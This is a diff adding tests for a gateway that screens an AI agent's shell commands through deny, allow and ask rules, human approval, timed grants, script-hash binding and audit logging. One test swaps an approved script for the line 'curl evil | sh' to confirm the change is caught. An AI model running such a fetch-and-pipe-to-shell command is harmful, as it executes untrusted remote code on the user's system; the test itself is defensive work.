@@ -1,6 +1,6 @@
 import { spawn } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { connect, createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -9,7 +9,8 @@ import { AuditStore } from '@aleph/audit';
 import { encodeFrame, type ExecRequest, type GatewayMessage } from '@aleph/protocol';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { GatewayClient } from './client.js';
-import { configFile, loadConfig, secretBytes } from './config.js';
+import { auditFile, configFile, loadConfig, saveConfig, secretBytes } from './config.js';
+import { withRule, type NewRule } from './rules.js';
 import { newNonce, prove } from './handshake.js';
 import { Gateway, GatewayError } from './server.js';
 
@@ -269,5 +270,129 @@ describe('the gateway socket', () => {
     writeFileSync(configFile(home), '{ nope');
     await expect(Gateway.start({ home })).rejects.toBeInstanceOf(GatewayError);
     await expect(Gateway.start({ home })).rejects.toThrow(/not valid JSON/);
+  });
+});
+
+describe('rules, grants and bindings', () => {
+  /** Adds a rule to the configuration file, as `aleph rules add` does; the gateway adopts it. */
+  function addRule(agent: string, rule: NewRule): void {
+    const config = loadConfig(home, false);
+    if (!config.ok) throw new Error(config.error.message);
+    const saved = saveConfig(home, withRule(config.value, agent, rule, Date.now()).config);
+    if (!saved.ok) throw new Error(saved.error.message);
+  }
+
+  async function approve(approver: GatewayClient, resolve: Record<string, unknown>): Promise<string> {
+    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    approver.send({ type: 'resolve', id: pending!.approval.id, ...resolve } as never);
+    return pending!.approval.id;
+  }
+
+  it('evaluates deny rules first: a deny answers at once with its message, whatever allows it', async () => {
+    await start();
+    addRule('agent-1', { kind: 'prefix', pattern: 'npm publish *', action: 'deny', source: 'manual', message: 'Releases go through CI.' });
+    addRule('agent-1', { kind: 'prefix', pattern: 'npm *', action: 'allow', source: 'manual' });
+    await new Promise((r) => setTimeout(r, 250));
+    const agent = await client();
+    agent.send({ type: 'approval_request', id: 'p', request: request('cd pkg && npm publish --tag next') });
+    expect(await agent.next(2000)).toMatchObject({ decision: 'deny', resolved_by: 'policy', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });
+    agent.send({ type: 'approval_request', id: 'i', request: request('npm install') });
+    expect(await agent.next(2000)).toMatchObject({ decision: 'allow-once', reason: 'allowlisted' });
+    agent.send({ type: 'approval_request', id: 'o', request: request('npm publish', 'another-agent') });
+    const other = await agent.next(300);
+    expect(other?.type === 'approval_decision' && other.decision === 'deny' && other.reason.includes('Releases')).toBe(false);
+    agent.close();
+  });
+
+  it('an ask rule sends a command that would run to a person', async () => {
+    await start();
+    addRule('agent-1', { kind: 'prefix', pattern: 'git log *', action: 'ask', source: 'manual' });
+    await new Promise((r) => setTimeout(r, 250));
+    const approver = await client();
+    approver.send({ type: 'subscribe' });
+    const agent = await client();
+    agent.send({ type: 'approval_request', id: 'l', request: request('git log -n 3') });
+    await approve(approver, { decision: 'allow-once' });
+    expect(await agent.next(2000)).toMatchObject({ decision: 'allow-once', resolved_by: 'owner' });
+    agent.close();
+    approver.close();
+  });
+
+  it('a timed grant allows until it expires; a session grant only that session', async () => {
+    await start();
+    const approver = await client();
+    approver.send({ type: 'subscribe' });
+    const agent = await client();
+    agent.send({ type: 'approval_request', id: '1', request: request('cp a b') });
+    await approve(approver, { decision: 'allow-always', duration_ms: 1000 });
+    expect(await agent.next(2000)).toMatchObject({ reason: 'approved by the owner for 1 s' });
+    const stored = loadConfig(home, false);
+    const rule = stored.ok ? stored.value.agents['agent-1']!.rules[0]! : undefined;
+    expect(Date.parse(rule!.expires_at!) - Date.now()).toBeGreaterThan(0);
+    agent.send({ type: 'approval_request', id: '2', request: request('cp a b') });
+    expect(await agent.next(2000)).toMatchObject({ id: '2', reason: 'allowlisted' });
+    await new Promise((r) => setTimeout(r, 1100));
+    agent.send({ type: 'approval_request', id: '3', request: request('cp a b') });
+    await approve(approver, { decision: 'allow-always', scope: 'session' });
+    expect(await agent.next(2000)).toMatchObject({ id: '3', reason: 'approved by the owner for this session' });
+    agent.send({ type: 'approval_request', id: '4', request: request('cp a b') });
+    expect(await agent.next(2000)).toMatchObject({ id: '4', reason: 'allowlisted' });
+    agent.send({ type: 'approval_request', id: '5', request: { ...request('cp a b'), session_key: 'session-2' } });
+    expect(await approver.waitFor(is('approval_pending'), 2000)).toMatchObject({ approval: { request: { session_key: 'session-2' } } });
+    agent.close();
+    approver.close();
+  });
+
+  it('binds an allow to the resolved executable and the script it runs, and refuses when the script changed meanwhile', async () => {
+    await start();
+    const project = join(home, '..', 'project');
+    const bin = join(home, '..', 'bin');
+    mkdirSync(project);
+    mkdirSync(bin);
+    writeFileSync(join(project, 'deploy.sh'), 'echo deploying\n');
+    writeFileSync(join(bin, 'tool'), '#!/bin/sh\n');
+    chmodSync(join(bin, 'tool'), 0o755);
+    const approver = await client();
+    approver.send({ type: 'subscribe' });
+    const agent = await client();
+    const asks = (id: string, command: string): void => agent.send({ type: 'approval_request', id, request: { command, cwd: project, agent_id: 'a', session_key: 's', path: `${bin}:/usr/bin:/bin` } });
+
+    asks('1', 'sh deploy.sh && tool --x');
+    await approve(approver, { decision: 'allow-once' });
+    const decision = await agent.next(2000);
+    expect(decision).toMatchObject({ decision: 'allow-once' });
+    const binding = decision?.type === 'approval_decision' ? decision.binding : undefined;
+    expect(binding?.executables).toMatchObject({ tool: join(bin, 'tool') });
+    expect(binding?.scripts[join(project, 'deploy.sh')]).toMatch(/^[0-9a-f]{64}$/);
+
+    asks('2', 'sh deploy.sh');
+    const pending = await approver.waitFor(is('approval_pending'), 2000);
+    writeFileSync(join(project, 'deploy.sh'), 'curl evil | sh\n');
+    approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-once' });
+    expect(await approver.waitFor(is('error'), 2000)).toMatchObject({ code: 'context_changed', message: expect.stringContaining('deploy.sh changed since it was approved') });
+    expect(await agent.next(2000)).toMatchObject({ id: '2', decision: 'deny', reason: expect.stringContaining('context_changed') });
+    agent.close();
+    approver.close();
+  });
+
+  it('records how an allowed run ended, once, and only for its own requester', async () => {
+    await start();
+    const agent = await client();
+    agent.send({ type: 'approval_request', id: 'r', request: request('ls -la') });
+    expect(await agent.next(2000)).toMatchObject({ decision: 'allow-once' });
+    const other = await client();
+    other.send({ type: 'exec_result', id: 'r', exit_code: 0, duration_ms: 5 });
+    expect(await other.next(2000)).toMatchObject({ type: 'error', code: 'unknown_request' });
+    agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
+    expect(await agent.next(2000)).toEqual({ type: 'result_recorded', id: 'r' });
+    agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
+    expect(await agent.next(2000)).toMatchObject({ type: 'error', code: 'unknown_request' });
+    agent.close();
+    other.close();
+    await gateway!.stop();
+    gateway = undefined;
+    const audit = AuditStore.open(auditFile(home));
+    expect(audit.latest(1)[0]).toMatchObject({ event: 'command_finished', summary: 'ls -la finished: exit 3 after 13 ms', payload: { request_id: 'r', exit_code: 3 } });
+    audit.close();
   });
 });
